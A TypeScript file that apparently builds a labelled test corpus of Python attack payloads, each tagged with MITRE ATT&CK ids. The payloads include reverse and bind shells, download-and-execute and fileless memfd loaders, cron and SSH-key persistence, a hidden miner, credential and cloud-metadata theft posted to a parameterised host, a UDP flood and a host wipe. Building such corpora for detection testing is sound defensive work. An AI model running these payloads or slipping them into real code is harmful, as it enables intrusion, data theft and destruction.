import { type Payload, payloads } from '../payload.ts';

/** Behaviours written in Python. */
export const python: readonly Payload[] = [
  ...payloads('python', 'EXE-REVSH', [
    [
      'py-rev-dup2',
      'malicious',
      'T1059.004 T1059.006',
      (p) =>
        `import socket, subprocess, os\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(("${p.ip}", ${p.port}))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\nsubprocess.call(["/bin/sh", "-i"])\n`,
    ],
    [
      'py-rev-pty',
      'malicious',
      'T1059.004 T1059.006',
      (p) =>
        `import os, pty, socket\nh = "${p.ip}"\nc = socket.create_connection((h, ${p.port}))\n[os.dup2(c.fileno(), n) for n in range(3)]\npty.spawn("/bin/bash")\n`,
    ],
    [
      'py-rev-commands',
      'malicious',
      'T1059.004 T1059.006',
      (p) =>
        `import socket, subprocess\ns = socket.socket()\ns.connect(("${p.host}", ${p.port}))\nwhile True:\n    data = s.recv(1024).decode()\n    if not data:\n        break\n    out = subprocess.run(data, shell=True, capture_output=True)\n    s.send(out.stdout + out.stderr)\n`,
    ],
  ]),
  ...payloads('python', 'EXE-BINDSH', [
    [
      'py-bind',
      'malicious',
      'T1059.004 T1059.006 T1571',
      () =>
        `import socket, subprocess, os\ns = socket.socket()\ns.bind(("0.0.0.0", 4444))\ns.listen(1)\nc, a = s.accept()\nfor fd in (0, 1, 2):\n    os.dup2(c.fileno(), fd)\nsubprocess.call(["/bin/sh", "-i"])\n`,
    ],
  ]),
  ...payloads('python', 'EXE-DLEXEC', [
    ['py-dl-system', 'malicious', 'T1105', (p) => `import os\nos.system("curl -s http://${p.ip}/x.sh | bash")\n`],
    [
      'py-dl-exec',
      'malicious',
      'T1105',
      (p) => `import requests\ncode = requests.get("http://${p.ip}:${p.port}/s.py").text\nexec(code)\n`,
    ],
    [
      'py-dl-file',
      'malicious',
      'T1105',
      (p) =>
        `import os, subprocess, urllib.request\nurllib.request.urlretrieve("http://${p.ip}/bin", "/tmp/.b")\nos.chmod("/tmp/.b", 0o755)\nsubprocess.Popen(["/tmp/.b"])\n`,
    ],
  ]),
  ...payloads('python', 'EXE-FILELESS', [
    [
      'py-memfd',
      'malicious',
      'T1620 T1105',
      (p) =>
        `import os, urllib.request\nd = urllib.request.urlopen("http://${p.ip}/e").read()\nf = os.memfd_create("", 0)\nos.write(f, d)\nos.execv("/proc/self/fd/%d" % f, ["[kworker/0:0]"])\n`,
    ],
  ]),
  ...payloads('python', 'PER-CRON', [
    [
      'py-cron-host',
      'malicious',
      'T1053.003',
      (p) =>
        `with open("/mnt/etc/crontab", "a") as table:\n    table.write("* * * * * root curl -s http://${p.ip}/j | sh\\n")\n`,
    ],
  ]),
  ...payloads('python', 'PER-SSH', [
    [
      'py-key-host',
      'malicious',
      'T1098.004',
      (p) =>
        `import os\nos.makedirs("/host/root/.ssh", exist_ok=True)\nopen("/host/root/.ssh/authorized_keys", "a").write("${p.key}\\n")\n`,
    ],
  ]),
  ...payloads('python', 'IM-MINER', [
    [
      'py-miner',
      'malicious',
      'T1496 T1496.001',
      (p) =>
        `import subprocess\nsubprocess.Popen(["/opt/.cache/sys", "-o", "stratum+tcp://${p.pool}", "-u", "${p.wallet}", "-p", "x", "--donate-level", "1"])\n`,
      () => ({ '/opt/.cache/sys': { content: '\u007fELF stand-in', mode: 0o755 } }),
    ],
  ]),
  ...payloads('python', 'CA-FILES', [
    [
      'py-steal-post',
      'malicious',
      'T1041 T1552.001 T1003.008 T1552.004',
      (p) =>
        `import requests\nfor name in ("/root/.aws/credentials", "/root/.ssh/id_rsa", "/etc/shadow"):\n    try:\n        requests.post("http://${p.ip}/c", data=open(name, "rb").read())\n    except OSError:\n        pass\n`,
    ],
    [
      'py-env-post',
      'suspicious',
      'T1041 T1567 T1552.001',
      (p) =>
        `import json, os, urllib.request\nurllib.request.urlopen("https://${p.host}/e", data=json.dumps(dict(os.environ)).encode())\n`,
    ],
  ]),
  ...payloads('python', 'CA-IMDS', [
    [
      'py-imds',
      'malicious',
      'T1552.005',
      (p) =>
        `import requests\nb = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"\nr = requests.get(b).text\nrequests.post("http://${p.ip}/i", data=requests.get(b + r).text)\n`,
    ],
  ]),
  ...payloads('python', 'IM-DDOS', [
    [
      'py-flood',
      'suspicious',
      'T1498 T1498.001 T1499',
      (p) =>
        `import random, socket\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ndata = random._urandom(1490)\nwhile True:\n    s.sendto(data, ("${p.ip}", ${p.port}))\n`,
    ],
  ]),
  ...payloads('python', 'IM-WIPE', [
    [
      'py-wipe',
      'malicious',
      'T1485',
      () =>
        `import os, shutil\nfor name in os.listdir("/host"):\n    shutil.rmtree(os.path.join("/host", name), ignore_errors=True)\n`,
    ],
  ]),
];
